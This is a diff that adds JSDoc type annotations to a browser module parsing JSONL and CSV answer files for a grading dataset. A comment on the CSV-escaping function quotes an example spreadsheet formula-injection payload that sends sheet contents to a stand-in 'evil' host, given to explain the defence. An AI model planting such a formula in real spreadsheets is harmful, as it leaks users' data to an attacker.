@@ -1,3 +1,4 @@
+// @ts-check
 // Reading answers from a pasted or uploaded file, in the browser (pure: text in, questions out).
 // JSONL is the schema of the project's datasets: one question per line,
 //   {"question_id", "question", "reference"?, "max_score"?, "answers": [{"id", "text", ...}]}
@@ -7,7 +8,12 @@
 /** @typedef {{ id: string, text: string }} Answer */
 /** @typedef {{ questionId: string|null, question: string|null, reference: string|null, maxScore: number|null, answers: Answer[] }} Question */
 
-/** @returns {{ ok: true, questions: Question[] } | { ok: false, reason: string }} */
+/** @typedef {{ ok: true, questions: Question[] } | { ok: false, reason: string }} AnswersRead */
+
+/**
+ * @param {string} text
+ * @returns {AnswersRead}
+ */
 export function readAnswersFile(text, name = "") {
   const body = text.replace(/^\uFEFF/, "");
   if (!body.trim()) return { ok: false, reason: "the file is empty" };
@@ -22,7 +28,12 @@ export function readAnswersFile(text, name = "") {
   return { ok: true, questions: [{ questionId: null, question: null, reference: null, maxScore: null, answers }] };
 }
 
+/**
+ * @param {string} body
+ * @returns {AnswersRead}
+ */
 function readJsonl(body) {
+  /** @type {Question[]} */
   const questions = [];
   const lines = body.split(/\r?\n/);
   for (let i = 0; i < lines.length; i++) {
@@ -31,7 +42,7 @@ function readJsonl(body) {
     try {
       row = JSON.parse(lines[i]);
     } catch (err) {
-      return { ok: false, reason: `line ${i + 1} is not valid JSON (${err.message})` };
+      return { ok: false, reason: `line ${i + 1} is not valid JSON (${/** @type {SyntaxError} */ (err).message})` };
     }
     if (!row || !Array.isArray(row.answers)) return { ok: false, reason: `line ${i + 1} has no "answers" list` };
     const answers = [];
@@ -51,6 +62,10 @@ function readJsonl(body) {
   return { ok: true, questions };
 }
 
+/**
+ * @param {string} body
+ * @returns {AnswersRead}
+ */
 function readCsv(body) {
   const rows = csvRows(body);
   if (!rows.ok) return rows;
@@ -65,9 +80,15 @@ function readCsv(body) {
   return { ok: true, questions: [{ questionId: null, question: null, reference: null, maxScore: null, answers }] };
 }
 
-/** RFC 4180: quoted fields may hold commas, newlines and doubled quotes. */
+/**
+ * RFC 4180: quoted fields may hold commas, newlines and doubled quotes.
+ * @param {string} text
+ * @returns {{ ok: true, rows: string[][] } | { ok: false, reason: string }}
+ */
 export function csvRows(text) {
+  /** @type {string[][]} */
   const rows = [];
+  /** @type {string[]} */
   let row = [];
   let cell = "";
   let quoted = false;
@@ -105,6 +126,7 @@ export function csvRows(text) {
  * starts with = + - @, a tab or a carriage return would run as a formula in a spreadsheet (an answer
  * like `=HYPERLINK("http://evil/?"&A1)` leaks the sheet when clicked): it gets a leading ' and quotes,
  * as OWASP advises for CSV injection. Numbers are ours, never formulas, and stay numbers.
+ * @param {unknown} value
  */
 export function csvCell(value) {
   const s = value === null || value === undefined ? "" : String(value);
